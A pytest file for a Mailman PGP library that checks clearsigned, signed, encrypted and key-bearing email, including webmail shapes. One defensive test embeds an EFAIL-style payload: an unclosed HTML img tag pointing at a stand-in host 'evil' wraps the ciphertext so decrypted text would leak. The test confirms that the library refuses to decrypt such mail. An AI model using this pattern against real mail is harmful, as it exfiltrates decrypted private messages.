"""Inline PGP with gpg: clearsigned text, encrypted parts, webmail shapes."""

import base64
import email
import quopri
from pathlib import Path

import pytest

from mailman_pgp.pgp import (
    MessageFormatError,
    clearsign,
    decrypt_message,
    find_keys,
    has_encrypted_parts,
    is_encrypted,
    is_inline_signed,
    is_signed,
    sign_inline,
    strip_signature,
    verify_message,
)

TEXT = ('Grüße aus Köln ✓\n- a dash line\nFrom here  \n'
        'trailing tab\t\n\nend\n')


def _text_message(body: bytes, cte='8bit', charset='utf-8',
                  subtype='plain'):
    if cte == 'quoted-printable':
        body = quopri.encodestring(body)
    elif cte == 'base64':
        body = base64.encodebytes(body)
    raw = ('From: anne@example.org\nSubject: hi\nMIME-Version: 1.0\n'
           f'Content-Type: text/{subtype}; charset="{charset}"\n'
           f'Content-Transfer-Encoding: {cte}\n\n').encode() + body
    return email.message_from_bytes(raw)


@pytest.mark.parametrize('cte', ['8bit', 'quoted-printable', 'base64'])
def test_gpg_clearsigned(gpg_world, gpg_keys, cte):
    fpr, secret = gpg_keys['cv25519']
    signed = gpg_world.run('--clearsign', '--local-user', fpr,
                           input=TEXT.encode()).stdout
    msg = _text_message(signed, cte)
    assert is_signed(msg) and is_inline_signed(msg)
    [v] = verify_message(msg, [secret.public])
    assert v.good, v
    stripped = strip_signature(msg)
    body = stripped.get_payload(decode=True).decode(
        stripped.get_content_charset())
    assert 'BEGIN PGP' not in body
    # The text as signed (and as gpg and Sequoia give it out): trailing
    # blanks are not covered, so they are not delivered either.
    assert body.replace('\r\n', '\n') == ''.join(
        line.rstrip(' \t') + '\n' for line in TEXT.splitlines())
    tampered = _text_message(signed.replace(b'end', b'End'), cte)
    [v] = verify_message(tampered, [secret.public])
    assert not v.valid


@pytest.mark.parametrize('cte', ['8bit', 'quoted-printable', 'base64'])
def test_gpg_clearsigned_legacy_charset_is_not_wholly_signed(
        gpg_world, gpg_keys, cte):
    # OpenPGP text is UTF-8; the MIME charset label is covered by no
    # signature, and relabelled the same bytes show other letters.
    fpr, secret = gpg_keys['cv25519']
    text = TEXT.replace(' ✓', '')
    signed = gpg_world.run('--clearsign', '--local-user', fpr,
                           input=text.encode('iso-8859-1')).stdout
    msg = _text_message(signed, cte, 'iso-8859-1')
    assert not is_inline_signed(msg)
    [v] = verify_message(msg, [secret.public])
    assert v.good, v
    from mailman_pgp.pgp.signed import signed_content
    [why] = signed_content(msg).unsigned
    assert 'charset iso-8859-1, not UTF-8' in why


def test_gpg_opaque_signed(gpg_world, gpg_keys):
    fpr, secret = gpg_keys['rsa']
    signed = gpg_world.run('--armor', '--sign', '--local-user', fpr,
                           input=TEXT.encode()).stdout
    msg = _text_message(signed)
    assert is_signed(msg) and not is_encrypted(msg)
    [v] = verify_message(msg, [secret.public])
    assert v.good
    stripped = strip_signature(msg)
    assert stripped.get_payload(decode=True).decode('utf-8') == TEXT


@pytest.mark.parametrize('kind', ['rsa', 'cv25519'])
def test_facade_clearsign_gpg_verifies(gpg_world, list_keys, kind):
    lst = list_keys[kind]
    block = clearsign(TEXT, lst)
    proc = gpg_world.run('--verify', input=block.encode())
    assert 'GOODSIG' in gpg_world.status(proc)
    msg = sign_inline(_text_message(TEXT.encode()), lst)
    [v] = verify_message(email.message_from_bytes(msg.as_bytes()),
                         lst.public)
    assert v.good


@pytest.mark.parametrize('cte', ['7bit', 'quoted-printable', 'base64'])
def test_gpg_inline_encrypted(gpg_world, gpg_keys, list_keys, cte):
    fpr, secret = gpg_keys['cv25519']
    lst = list_keys['cv25519']
    ct = gpg_world.run('--armor', '--encrypt', '--sign', '--local-user',
                       fpr, '--recipient', lst.fingerprint,
                       input=TEXT.encode()).stdout
    msg = _text_message(ct, cte, 'us-ascii')
    assert is_encrypted(msg)
    result = decrypt_message(msg, lst)
    body = result.message.get_payload(decode=True).decode('utf-8')
    assert body == TEXT
    [v] = result.verify([secret.public])
    assert v.good


def test_mailvelope_alternative(gpg_world, gpg_keys, list_keys):
    fpr, secret = gpg_keys['rsa']
    lst = list_keys['rsa']
    ct = gpg_world.run('--armor', '--encrypt', '--sign', '--local-user',
                       fpr, '--recipient', lst.fingerprint,
                       input=TEXT.encode()).stdout.decode()
    html = '<pre>' + ct.replace('\n', '<br>\n').replace('+', '&#43;') \
        + '</pre>'
    raw = ('From: anne@example.org\nSubject: hi\nMIME-Version: 1.0\n'
           'Content-Type: multipart/alternative; boundary="ALT"\n\n'
           f'--ALT\nContent-Type: text/plain; charset="us-ascii"\n\n{ct}\n'
           '--ALT\nContent-Type: text/html; charset="us-ascii"\n'
           f'Content-Transfer-Encoding: quoted-printable\n\n{quopri.encodestring(html.encode()).decode()}\n--ALT--\n'
           )
    msg = email.message_from_string(raw)
    assert is_encrypted(msg)
    result = decrypt_message(msg, lst)
    out = result.message
    assert out.get_content_type() == 'text/plain'
    assert out.get_payload(decode=True).decode('utf-8') == TEXT
    [v] = result.verify(secret.public)
    assert v.good


def test_efail_mixed_not_decrypted(gpg_world, list_keys):
    lst = list_keys['cv25519']
    ct = gpg_world.run('--armor', '--encrypt', '--recipient',
                       lst.fingerprint, input=b'secret').stdout.decode()
    raw = ('From: evil@example.org\nSubject: hi\nMIME-Version: 1.0\n'
           'Content-Type: multipart/mixed; boundary="B"\n\n'
           '--B\nContent-Type: text/html\n\n<img src="http://evil/?\n'
           f'--B\nContent-Type: text/plain\n\n{ct}\n'
           '--B\nContent-Type: text/html\n\n">\n--B--\n')
    msg = email.message_from_string(raw)
    assert not is_encrypted(msg) and has_encrypted_parts(msg)
    with pytest.raises(MessageFormatError):
        decrypt_message(msg, lst)
    around = _text_message(('Hello\n' + ct + '\nBye\n').encode())
    assert not is_encrypted(around) and has_encrypted_parts(around)
    with pytest.raises(MessageFormatError):
        decrypt_message(around, lst)


def test_find_keys(gpg_world, gpg_keys, list_keys):
    pubs = ''.join(gpg_world.export(f) for f, _ in gpg_keys.values())
    private = list_keys['cv25519'].armor()
    one = gpg_world.run('--armor', '--export', '--export-options',
                        'export-minimal', *[f for f, _ in gpg_keys.values()]
                        ).stdout.decode()
    fpr = next(iter(gpg_keys.values()))[0]
    rev = Path(gpg_world.home, 'openpgp-revocs.d', fpr + '.rev').read_text()
    rev = rev.replace(':-----', '-----')
    raw = ('From: anne@example.org\nSubject: keys\nMIME-Version: 1.0\n'
           'Content-Type: multipart/mixed; boundary="B"\n\n'
           f'--B\nContent-Type: text/plain\n\nMy keys:\n{pubs}\n'
           '--B\nContent-Type: application/pgp-keys\n'
           f'Content-Transfer-Encoding: base64\n\n{base64.encodebytes(one.encode()).decode()}\n'
           f'--B\nContent-Type: application/pgp-keys\n\n{private}\n'
           f'--B\nContent-Type: text/plain\n\n{rev}\n--B--\n')
    found = find_keys(email.message_from_string(raw))
    assert len(found.public_keys) == 4
    assert {k.fingerprint for k in found.public_keys} == {
        f for f, _ in gpg_keys.values()}
    assert [k.fingerprint for k in found.private_keys] == [
        list_keys['cv25519'].fingerprint]
    assert len(found.revocations) == 1
    assert found.revocations[0].kind == 'key'
    assert found.revocations[0].signer_keyid == fpr[-16:]
    assert not found.errors


def test_gpg_clearsigned_then_encrypted(gpg_world, gpg_keys, list_keys):
    fpr, secret = gpg_keys['rsa']
    lst = list_keys['rsa']
    clear = gpg_world.run('--clearsign', '--local-user', fpr,
                          input=TEXT.encode()).stdout
    ct = gpg_world.run('--armor', '--encrypt', '--recipient',
                       lst.fingerprint, input=clear).stdout
    result = decrypt_message(_text_message(ct, '7bit', 'us-ascii'), lst)
    assert result.is_signed
    [v] = result.verify([secret.public])
    assert v.good
